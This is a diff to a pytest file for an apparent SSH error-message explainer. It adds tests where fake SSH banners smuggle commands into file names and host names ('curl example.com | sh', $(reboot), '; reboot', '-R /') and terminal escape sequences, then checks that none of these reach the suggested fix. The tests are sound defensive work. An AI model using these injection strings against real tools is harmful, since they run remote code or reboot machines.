@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 
 from ml_remote.errors import (
@@ -49,7 +51,7 @@ MESSAGES: list[tuple[str, type[LabError], str, str]] = [
         "Bad owner or permissions on /home/ada/.ssh/config",
         ConfigurationError,
         "/home/ada/.ssh/config",
-        'chmod go-w "/home/ada/.ssh/config"',
+        "chmod go-w /home/ada/.ssh/config",
     ),
     (
         "Can't open user config file /x/config: No such file or directory",
@@ -73,7 +75,7 @@ MESSAGES: list[tuple[str, type[LabError], str, str]] = [
         CHANGED,
         HostKeyChangedError,
         "another machine answers",
-        "ssh-keygen -R 'gpu.example.com' -f '/home/ada/.ssh/known_hosts'",
+        "ssh-keygen -R gpu.example.com -f /home/ada/.ssh/known_hosts",
     ),
     (
         "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n"
@@ -197,7 +199,7 @@ MESSAGES: list[tuple[str, type[LabError], str, str]] = [
         "ada@gpu: Permission denied (publickey).",
         LoginRefusedError,
         "others on this computer may read it",
-        'chmod 600 "/home/ada/.ssh/id_ed25519"',
+        "chmod 600 /home/ada/.ssh/id_ed25519",
     ),
     (
         'Load key "/home/ada/.ssh/id_rsa": error in libcrypto\n'
@@ -268,3 +270,33 @@ def test_message_becomes_a_sentence_and_a_remedy(
 def test_messages_of_this_machines_ssh_are_known(options: tuple[str, ...], words: str) -> None:
     with pytest.raises(LabError, match=words):
         Client(alias="gpu", options=options).run("true")
+
+
+BANNERS = {
+    "a file with a command": "Permissions 0644 for 'x\"; curl example.com | sh; \"' are too open",
+    "a file with a variable": "Permissions 0644 for '$(touch x)' are too open",
+    "an option": "Bad owner or permissions on -R /",
+    "a name with a command": (
+        "REMOTE HOST IDENTIFICATION HAS CHANGED\nOffending key in /x;reboot:3\n"
+        "Host key for a$(reboot) has changed"
+    ),
+    "a line": "/etc/x; reboot line 3: Bad configuration option: usekeychain",
+    "escape sequences": "Permissions 0644 for '\x1b]52;c;eA==\x07' are too open",
+    "methods": "Permission denied (\x1b[2J; reboot).",
+}
+
+
+@pytest.mark.parametrize("banner", BANNERS.values(), ids=BANNERS)
+def test_banner_that_looks_like_a_message_makes_no_command(banner: str) -> None:
+    error = explain(banner, alias="gpu")
+    assert error.hint is not None
+    for hostile in ("curl", "reboot", "touch", "-R /", "\x1b", "$("):
+        assert hostile not in error.hint
+
+
+def test_long_text_of_the_machine_takes_no_time() -> None:
+    piece = "REMOTE HOST IDENTIFICATION HAS CHANGED key in a:1 key in b:2 line 1: "
+    begun = time.monotonic()
+    for text in (piece * 20_000, "x" * 2_000_000, "a: line 1: " * 100_000):
+        assert explain(text, alias="gpu").message
+    assert time.monotonic() - begun < 5
